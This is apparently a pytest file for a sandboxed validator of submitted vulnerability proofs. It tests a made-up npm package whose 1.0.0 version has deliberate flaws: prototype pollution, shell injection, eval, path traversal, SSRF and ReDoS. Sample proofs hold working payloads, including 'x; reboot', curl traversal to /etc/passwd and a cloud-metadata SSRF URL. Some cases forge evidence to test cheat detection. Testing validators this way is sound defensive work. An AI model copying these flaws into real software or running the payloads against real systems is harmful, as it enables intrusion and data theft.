"""Somebody else's test file is a proof with a few lines of proof.toml; what it asserts decides nothing, its effects do.

The package is this test's own, put into the cache of installed targets as the installer would have.
"""

import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from seawall.clearinghouse.validation.replay import validate
from seawall.clearinghouse.validation.sandboxes.interface import Provider
from seawall.clearinghouse.validation.targets.interface import cached, tree_digest
from seawall.clearinghouse.validation.types import Side, ValidationResult, Verdict

from .conftest import Judge, zipped

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(shutil.which("npm") is None, reason="node and npm are not installed"),
]

BUOY = """
const { exec, execSync } = require('child_process');
const fs = require('fs');
const http = require('http');
const path = require('path');
const FLAWED = require('./package.json').version === '1.0.0';
const safe = (text) => String(text).replace(/[^a-z0-9]/g, '');

exports.merge = function merge(target, source) {
  for (const key of Object.keys(source)) {
    if (!FLAWED && key === '__proto__') continue;
    if (typeof source[key] === 'object' && target[key]) merge(target[key], source[key]);
    else target[key] = source[key];
  }
  return target;
};
exports.hail = (name, done) => exec(`echo ${FLAWED ? name : safe(name)}`, done);
exports.hailSync = (name) => execSync(`echo ${FLAWED ? name : safe(name)}`).toString();
exports.reckon = (text) => (FLAWED ? new Function('return ' + text)() : Number(text));
exports.serve = (folder) => http.createServer((request, response) => {
  const asked = FLAWED ? request.url : path.posix.normalize(request.url).replace(/^(\\/?\\.\\.)+/, '');
  fs.readFile(path.join(folder, asked), (error, data) => {
    response.statusCode = error ? 404 : 200;
    response.end(error ? 'not here' : data);
  });
});
exports.stow = (folder, name, text) => {
  fs.mkdirSync(folder, { recursive: true });
  fs.writeFileSync(path.join(folder, FLAWED ? name : path.basename(name)), text);
};
exports.trim = (text) => (FLAWED ? text.replace(/\\s+$/, '') : text.trimEnd());
exports.fetch = (url, done) => {
  if (!FLAWED && !url.startsWith('https://harbor.example/')) return done(new Error('not ours'));
  http.get(url, (answer) => { answer.resume(); answer.on('end', () => done(null, answer.statusCode)); }).on('error', done);
};
exports.fill = (count) => (FLAWED ? Buffer.alloc(Math.min(count, 3e8), 1).length : Math.min(count, 10));
"""
"""A made-up package; each function has one flaw of one class in 1.0.0."""


@dataclass(frozen=True)
class Foreign:
    """A script of somebody else's, and what its proof.toml says."""

    source: str
    failure: str
    oracle: str
    style: str = "jest"
    more: str = ""
    """Further lines of [oracle]."""
    run: str = ""
    """Further lines of [run]."""
    name: str = "exploit.test.js"
    package: str = "pkg:npm/buoy"
    versions: tuple[str, str] = ("1.0.0", "1.1.0")
    files: dict[str, str] = field(default_factory=dict)

    def zip(self) -> bytes:
        """The bundle as an archive."""
        fixed = f'fixed = "{self.versions[1]}"\n' if self.versions[1] else ""
        runtime = "node" if "npm" in self.package else "python"
        toml = (
            'schema = "seawall.proof/1"\n'
            f'[target]\npackage = "{self.package}"\nvulnerable = "{self.versions[0]}"\n{fixed}'
            f'[claim]\nfailure = "{self.failure}"\n'
            f'[run]\nruntime = "{runtime}"\nstyle = "{self.style}"\ndriver = "{self.name}"\n{self.run}'
            f'[oracle]\nkind = "{self.oracle}"\n{self.more}'
        )
        members = {"proof.toml": toml, self.name: self.source, **self.files}
        return zipped({name: text.encode() for name, text in members.items()})


@pytest.fixture(scope="session")
def buoys(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A cache in which both versions are installed."""
    cache = tmp_path_factory.mktemp("buoys")
    for version in ("1.0.0", "1.1.0"):

        def build(tree: Path, version: str = version) -> dict[str, Any]:
            folder = tree / "node_modules" / "buoy"
            folder.mkdir(parents=True)
            (folder / "index.js").write_text(BUOY)
            (folder / "package.json").write_text(f'{{"name": "buoy", "version": "{version}"}}')
            (folder / "serve").write_text(
                "#!/usr/bin/env node\nrequire('./index.js').serve(process.cwd()).listen(8080);\n"
            )
            (folder / "serve").chmod(0o755)
            (tree / "node_modules" / ".bin").mkdir()
            (tree / "node_modules" / ".bin" / "serve").symlink_to("../buoy/serve")
            return {"registry": "npm", "installed": [f"buoy@{version}"], "digest": tree_digest(tree)}

        cached(cache, {"registry": "npm", "pins": (("buoy", version),)}, build)
    return cache


Run = Callable[..., ValidationResult]


@pytest.fixture
def tried(buoys: Path, bubblewrap: Provider, tmp_path: Path) -> Run:
    def run(foreign: Foreign, **wishes: Any) -> ValidationResult:
        archive = tmp_path / "proof.zip"
        archive.write_bytes(foreign.zip())
        return validate(archive, **{"cache": buoys, "sandbox": bubblewrap, "runs": 1, **wishes})

    return run


POLLUTES = Foreign(
    """
    test("prototype pollution in buoy", () => {
      const buoy = require("buoy");
      expect({}.test).toBe(undefined);
      buoy.merge({}, JSON.parse('{"__proto__": {"test": 123}}'));
      expect({}.test).toBe(123);
      delete Object.prototype.test;
    });
    """,
    "prototype-pollution",
    "prototype-polluted",
)
TOUCHES = Foreign(
    """
    const fs = require("fs");
    const { promisify } = require("util");
    jest.setTimeout(20000);
    describe("command injection", () => {
      beforeEach(() => fs.existsSync("./success") && fs.unlinkSync("./success"));
      afterEach(() => fs.unlinkSync("./success"));
      it("creates a file", (done) => {
        const buoy = require("buoy");
        expect(fs.existsSync("success")).toBe(false);
        buoy.hail("x; touch success", () => {
          try { expect(fs.existsSync("success")).toBe(true); done(); } catch (error) { done(error); }
        });
      });
    });
    """,
    "command-execution",
    "command-executed",
)
SERVES = Foreign(
    """
    const http = require("http");
    let server;
    beforeAll((done) => { server = require("buoy").serve(__dirname).listen(8888, done); });
    afterAll(() => server.close());
    test("path traversal", async () => {
      const text = await new Promise((resolve) => {
        const request = http.request({ port: 8888, path: "/../../../../../etc/passwd" }, (answer) => {
          let body = "";
          answer.on("data", (data) => { body += data; });
          answer.on("end", () => resolve(body));
        });
        request.end();
      });
      expect(text.includes("root:")).toBeTruthy();
    });
    """,
    "path-traversal",
    "secret-read",
)
CURLS = Foreign(
    """
    const { exec } = require("child_process");
    const util = require("util");
    test("path traversal with curl", async () => {
      const server = require("buoy").serve(process.cwd());
      await new Promise((resolve) => server.listen(8080, resolve));
      const { stdout } = await util.promisify(exec)("curl -s --path-as-is http://localhost:8080/../../flag.html");
      expect(stdout).toBe("pwned");
      server.close();
    });
    """,
    "path-traversal",
    "secret-read",
)
CALLS = Foreign(
    """
    global.CTF = () => console.log("GLOBAL CTF HIT");
    test("code injection", () => {
      const spy = jest.spyOn(console, "log");
      require("buoy").reckon("CTF()");
      expect(spy).toHaveBeenCalledWith("GLOBAL CTF HIT");
      spy.mockRestore();
    });
    """,
    "code-execution",
    "code-evaluated",
)
FOREIGN: dict[str, Foreign] = {
    "pollutes a prototype, and cleans up": POLLUTES,
    "pollutes a prototype in Mocha's words": Foreign(
        """
        const assert = require("assert");
        describe("buoy", function () {
          this.timeout(9000);
          before(() => {});
          context("merged", () => specify("pollutes", () => {
            require("buoy").merge({}, JSON.parse('{"__proto__": {"toString": 1}}'));
            assert.strictEqual({}.nothing, "x");
          }));
        });
        """,
        "prototype-pollution", "prototype-polluted", style="mocha",
    ),
    "pollutes a prototype in a plain script": Foreign(
        'const b = require("buoy");\nb.merge({}, JSON.parse(\'{"__proto__": {"isAdmin": true}}\'));\n'
        "console.log({}.isAdmin);\ndelete Object.prototype.isAdmin;\n",
        "prototype-pollution", "prototype-polluted", style="script", name="poc.js",
    ),
    "pollutes a prototype in a module": Foreign(
        'import buoy from "buoy";\nbuoy.merge({}, JSON.parse(\'{"__proto__": {"isAdmin": true}}\'));\n',
        "prototype-pollution", "prototype-polluted", style="script", name="poc.mjs",
    ),
    "makes a file by a command, and removes it": TOUCHES,
    "sleeps by a command": Foreign(
        'test("blind", () => { require("buoy").hailSync("x; sleep 0.1"); expect(1).toBe(2); });',
        "command-execution", "command-executed",
    ),
    "starts a program that it names": Foreign(
        'test("reboots", () => { require("buoy").hailSync("x; reboot"); });',
        "command-execution", "command-executed", more='commands = ["reboot"]\n',
    ),
    "reads a well-known file over http and looks at it": SERVES,
    "reads a flag with curl": CURLS,
    "reads a file that came with it": Foreign(
        """
        test("reads a neighbor", async () => {
          const server = require("buoy").serve(require("path").join(__dirname, "public"));
          await new Promise((resolve) => server.listen(8080, resolve));
          const answer = await fetch("http://127.0.0.1:8080/index.html");
          const { execSync, spawnSync } = require("child_process");
          expect(await answer.text()).toContain("tide");
          await new Promise((resolve) => require("child_process").exec(
            "curl -s --path-as-is http://127.0.0.1:8080/../private.txt", (error, out) => resolve(expect(out).toBe("x"))));
        });
        """,
        "path-traversal", "secret-read", more='names = ["private.txt"]\n',
        files={"private.txt": "replaced by the run's secret", "public/index.html": "the tide"},
    ),
    "compares with what it reads itself": Foreign(
        """
        const fs = require("fs");
        test("path traversal", async () => {
          const server = require("buoy").serve(__dirname);
          await new Promise((resolve) => server.listen(8080, resolve));
          const wanted = fs.readFileSync("/etc/passwd", "utf8");
          expect(wanted).toContain("root");
          const out = require("child_process").execSync;
          await new Promise((resolve) => require("child_process").exec(
            "curl -s --path-as-is http://localhost:8080/../../../../etc/passwd", (error, got) => resolve(expect(got).toBe(wanted))));
        });
        """,
        "path-traversal", "secret-read",
    ),
    "sets a global from evaluated code": Foreign(
        'test("eval", () => { require("buoy").reckon("global.hacked = true"); expect(global.hacked).toBe(true); });',
        "code-execution", "code-evaluated",
    ),
    "calls a global function from evaluated code": CALLS,
    "calls a mock from evaluated code": Foreign(
        'test("eval", () => { global.hit = jest.fn(); require("buoy").reckon("hit(1)"); expect(hit).toHaveBeenCalled(); });',
        "code-execution", "code-evaluated",
    ),
    "gets at the process by evaluated code": Foreign(
        'test("escape", () => { expect(require("buoy").reckon("process")).toBeDefined(); });',
        "code-execution", "code-evaluated",
    ),
    "writes outside": Foreign(
        """
        const fs = require("fs");
        test("zip slip", () => {
          require("buoy").stow("out", "../../evil.txt", "evil");
          expect(fs.existsSync("../evil.txt")).toBe(true);
          fs.unlinkSync("../evil.txt");
        });
        """,
        "path-traversal", "file-written-outside",
    ),
    "writes beside the folder that it names": Foreign(
        'test("zip slip", () => require("buoy").stow("out", "../evil.txt", "evil"));',
        "path-traversal", "file-written-outside", more='inside = ["out"]\n',
    ),
    "takes long": Foreign(
        """
        test("ReDoS", () => {
          const start = process.hrtime();
          require("buoy").trim(" ".repeat(100000) + "x");
          expect(process.hrtime(start)[0]).toBeGreaterThan(1);
        });
        """,
        "denial-of-service", "time-budget", more="budget_s = 1.0\n",
    ),
    "asks another machine": Foreign(
        'test("SSRF", (done) => { require("buoy").fetch("http://169.254.169.254/latest/meta-data", () => done()); });',
        "request-forgery", "outbound-request",
    ),
    "takes memory": Foreign(
        'test("fills", () => { require("buoy").fill(3e8); });',
        "denial-of-service", "memory-budget", more="budget_mib = 256\n",
    ),
    "is held against a stub": Foreign(
        POLLUTES.source, "prototype-pollution", "prototype-polluted", versions=("1.0.0", "")
    ),
    "serves beside a stub": Foreign(SERVES.source, "path-traversal", "secret-read", versions=("1.0.0", "")),
    "starts the package's own program beside a stub": Foreign(
        """
        const { exec } = require("child_process");
        let child;
        beforeAll((done) => { child = exec("node_modules/.bin/serve"); setTimeout(done, 1000); });
        afterAll(() => child.kill());
        test("is left", (done) => exec("curl -s --path-as-is http://localhost:8080/../../../flag", () => done()));
        """,
        "path-traversal", "secret-read", versions=("1.0.0", ""),
    ),
    "calls back beside a stub": Foreign(TOUCHES.source, "command-execution", "command-executed", versions=("1.0.0", "")),
}  # fmt: skip


@pytest.mark.parametrize("foreign", FOREIGN.values(), ids=FOREIGN)
def test_a_foreign_proof_is_confirmed(foreign: Foreign, tried: Run) -> None:
    result = tried(foreign)
    assert result.verdict is Verdict.CONFIRMED, (result.summary, result.reasons, result.runs)
    assert "Driver and attack are one script" in " ".join(result.reasons)
    assert result.input_preview == ""


ITSELF = 'test("by itself", () => { require("buoy"); %s });'
CHEATS: dict[str, tuple[Foreign, str]] = {
    # what it does: (proof, verdict)
    "pollutes by itself": (Foreign(ITSELF % "Object.prototype.x = 1;", "prototype-pollution", "prototype-polluted"), "inconclusive"),
    "touches by itself": (
        Foreign(ITSELF % 'require("child_process").execSync("touch success");', "command-execution", "command-executed"),
        "inconclusive",
    ),
    "reads the flag by itself": (
        Foreign(ITSELF % 'console.log(require("fs").readFileSync("/flag", "utf8"));', "path-traversal", "secret-read"), "inconclusive",
    ),
    "reads it by itself beside a stub": (
        Foreign(ITSELF % 'require("child_process").execSync("cat /flag");', "path-traversal", "secret-read", versions=("1.0.0", "")),
        "inconclusive",
    ),
    "touches in a callback beside a stub": (
        Foreign('test("x", (done) => require("buoy").hail("x", () => { require("fs").writeFileSync("success", ""); done(); }));',
                "command-execution", "command-executed", versions=("1.0.0", "")),
        "inconclusive",
    ),
    "evaluates by itself": (Foreign(ITSELF % 'new Function("console.log(1)")();', "code-execution", "code-evaluated"), "not_reproduced"),
    "writes outside by itself": (
        Foreign(ITSELF % 'require("fs").writeFileSync("../evil", "");', "path-traversal", "file-written-outside"), "inconclusive",
    ),
    "sets a global by itself": (Foreign(ITSELF % "global.hacked = true;", "code-execution", "code-evaluated"), "not_reproduced"),
    "compares the flag with itself": (
        Foreign(ITSELF % 'const t = require("fs").readFileSync("/flag", "utf8"); expect(t).toBe(t);', "path-traversal", "secret-read"),
        "not_reproduced",
    ),
    "only looks whether the flag is there": (
        Foreign(ITSELF % 'require("fs").statSync("/flag"); require("fs").closeSync(require("fs").openSync("/flag"));',
                "path-traversal", "secret-read"),
        "not_reproduced",
    ),
    "writes into its own folder": (
        Foreign(ITSELF % 'require("fs").writeFileSync("note", "");', "path-traversal", "file-written-outside"), "not_reproduced",
    ),
    "asserts what is so": (Foreign(ITSELF % "expect(1).toBe(1);", "code-execution", "code-evaluated"), "not_reproduced"),
    "prints what is looked for": (
        Foreign(ITSELF % 'console.log("root:x:0:0", process.env, "CONFIRMED");', "path-traversal", "secret-read"), "not_reproduced",
    ),
    "forges what the launcher notes, of a command": (
        Foreign(ITSELF % 'require("fs").appendFileSync("/report/notes.jsonl", JSON.stringify({kind: "effect", event: "exec", '
                         'detail: "touch", frames: [["/node_modules/buoy/index.js", "hail"]]}) + "\\n");',
                "command-execution", "command-executed"),
        "not_reproduced",
    ),
    "is not there": (Foreign('require("./missing");', "prototype-pollution", "prototype-polluted"), "not_reproduced"),
    "is empty": (Foreign("\n", "prototype-pollution", "prototype-polluted"), "not_reproduced"),
    "sleeps": (
        Foreign('test("x", (done) => setTimeout(done, 3000));', "denial-of-service", "time-budget", more="budget_s = 1.0\n"),
        "not_reproduced",
    ),
    "works by itself": (
        Foreign(ITSELF % "for (const end = Date.now() + 9000; Date.now() < end;);", "denial-of-service", "time-budget",
                more="budget_s = 1.0\n"),
        "inconclusive",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("foreign", "verdict"), CHEATS.values(), ids=CHEATS)
def test_an_effect_without_the_package_is_never_confirmed(foreign: Foreign, verdict: str, tried: Run) -> None:
    result = tried(foreign)
    assert result.verdict.value == verdict, (result.summary, result.reasons, result.runs)


@pytest.mark.parametrize("foreign", [POLLUTES, TOUCHES, SERVES, CURLS, CALLS])
def test_no_proof_is_confirmed_on_an_inert_stub(foreign: Foreign, tried: Run) -> None:
    result = tried(foreign, inert=frozenset({Side.VULNERABLE}))
    assert result.verdict is Verdict.NOT_REPRODUCED, (result.summary, result.runs)


def test_a_package_that_loads_on_one_side_only_shows_nothing(buoys: Path, tried: Run) -> None:
    def build(tree: Path) -> dict[str, Any]:
        folder = tree / "node_modules" / "buoy"
        folder.mkdir(parents=True)
        (folder / "index.js").write_text("require('a-module-that-is-missing');")
        (folder / "package.json").write_text('{"name": "buoy", "version": "1.2.0"}')
        return {"registry": "npm", "digest": tree_digest(tree)}

    cached(buoys, {"registry": "npm", "pins": (("buoy", "1.2.0"),)}, build)
    result = tried(POLLUTES, fixed="1.2.0")
    assert result.verdict is Verdict.INCONCLUSIVE
    assert "loads on the flawed side but not on the fixed one" in result.summary


PYTHON: dict[str, Foreign] = {
    "with fixtures, marks and an assertion that fails": Foreign(
        """
import os
import pytest
import pier

@pytest.fixture(autouse=True)
def clean(tmp_path, monkeypatch):
    monkeypatch.setenv("PIER", "1")
    yield
    if os.path.exists("success"): os.remove("success")

class TestPier:
    @pytest.mark.parametrize("name", ["success"])
    def test_code_runs(self, name):
        with pytest.raises(ZeroDivisionError):
            1 / 0
        pier.label(f"__import__('os').system('touch {name}')")
        assert os.path.exists(name)

def test_that_fails():
    assert False
""",
        "code-execution", "code-evaluated", style="pytest", name="test_poc.py", package="pkg:pypi/pier", versions=("1.0", "1.1"),
    ),
    "asynchronous, which only looks at what it read": Foreign(
        """
import pier

async def test_reads():
    text = pier.load("etc/passwd")
    assert text.startswith("root")
""",
        "file-disclosure", "secret-read", style="pytest", name="test_poc.py", package="pkg:pypi/pier", versions=("1.0", "1.1"),
    ),
    "a plain script, beside a stub": Foreign(
        "import pier\nsecret = str(pier.load('flag.txt'))\nprint(len(secret))\n",
        "file-disclosure", "secret-read", style="script", name="poc.py", package="pkg:pypi/pier", versions=("1.0", ""),
    ),
    "a plain script that writes": Foreign(
        "import os, pier\nos.mkdir('out')\npier.unpack('../../evil', 'out')\n",
        "path-traversal", "file-written-outside", style="script", name="poc.py", package="pkg:pypi/pier", versions=("1.0", "1.1"),
    ),
}  # fmt: skip


@pytest.mark.parametrize("foreign", PYTHON.values(), ids=PYTHON)
def test_a_foreign_proof_in_python_is_confirmed(foreign: Foreign, judge: Judge) -> None:
    result = judge(foreign.zip(), at_most=None)
    assert result.verdict is Verdict.CONFIRMED, (result.summary, result.reasons, result.runs)
